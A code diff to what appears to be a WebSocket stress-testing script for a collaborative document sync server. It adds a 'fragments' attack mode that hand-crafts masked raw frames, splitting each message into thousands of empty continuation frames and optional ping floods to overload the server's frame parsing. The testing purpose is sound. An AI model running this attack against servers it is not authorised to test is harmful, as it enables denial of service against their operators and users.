@@ -9,8 +9,13 @@
 // - `sync-step-1`: every connection sends `frames` four-byte sync step 1 frames (`00 00 01 00`),
 //   asking for the whole document each time, and reads whatever comes back.
 // - `client-ids`: every connection sends one valid update with structs of `clientIds` client ids.
+// - `fragments`: every connection writes `frames` messages straight to its socket, each split
+//   into `fragments` WebSocket frames (empty continuation frames, then a save checkpoint
+//   `[100, 1]`), so that the server parses many frames for every message it sees; `pings` adds
+//   that many 125-byte pings after them.
 // Connections are opened `perSecond` a second until `connections` were opened; each is closed
 // by the server or after `holdMs`.
+import { Buffer } from 'node:buffer'
 import process from 'node:process'
 import { clearTimeout, setTimeout } from 'node:timers'
 import WebSocket from 'ws'
@@ -25,6 +30,8 @@ const {
   frames = 1000,
   clientIds = 1000,
   holdMs = 2000,
+  fragments = 16_000,
+  pings = 0,
 } = options
 
 const stats = { opened: 0, refused: 0, framesSent: 0, bytesSent: 0, bytesReceived: 0, closes: {} }
@@ -54,6 +61,42 @@ function manyClientsUpdate(count) {
 const syncStep1 = new Uint8Array([0, 0, 1, 0])
 const payload = attack === 'client-ids' ? manyClientsUpdate(clientIds) : syncStep1
 
+// Client frames are masked; a mask of zeros leaves the payload as it is.
+function rawFrame(firstByte, body) {
+  return Buffer.concat([Buffer.from([firstByte, 0x80 | body.length, 0, 0, 0, 0]), body])
+}
+
+// One message in `count` frames: binary without FIN, empty continuations, a last one with FIN.
+function fragmentedMessage(count) {
+  const empty = rawFrame(0x00, Buffer.alloc(0))
+  const parts = [rawFrame(0x02, Buffer.alloc(0))]
+  for (let i = 0; i < count - 2; i++) {
+    parts.push(empty)
+  }
+  parts.push(rawFrame(0x80, Buffer.from([100, 1])))
+  return Buffer.concat(parts)
+}
+const fragmented = attack === 'fragments' ? fragmentedMessage(fragments) : undefined
+const ping = rawFrame(0x89, Buffer.alloc(125, 7))
+
+// Writes `frames` fragmented messages, then `pings` pings, respecting the socket's backpressure.
+async function writeRaw(socket) {
+  const raw = socket._socket
+  const write = (chunk) =>
+    raw.write(chunk) ? Promise.resolve() : new Promise((resolve) => raw.once('drain', resolve))
+  for (let i = 0; i < frames && !raw.destroyed && socket.readyState === socket.OPEN; i++) {
+    await write(fragmented)
+    stats.framesSent += fragments
+    stats.bytesSent += fragmented.byteLength
+  }
+  const pingBatch = Buffer.concat(Array.from({ length: 100 }, () => ping))
+  for (let i = 0; i < pings / 100 && !raw.destroyed && socket.readyState === socket.OPEN; i++) {
+    await write(pingBatch)
+    stats.framesSent += 100
+    stats.bytesSent += pingBatch.byteLength
+  }
+}
+
 function send(socket, frame) {
   socket.send(frame)
   stats.framesSent++
@@ -81,6 +124,8 @@ function one() {
       stats.opened++
       if (attack === 'client-ids') {
         send(socket, payload)
+      } else if (attack === 'fragments') {
+        void writeRaw(socket).catch(() => undefined)
       } else {
         for (let i = 0; i < frames && socket.readyState === socket.OPEN; i++) {
           send(socket, payload)
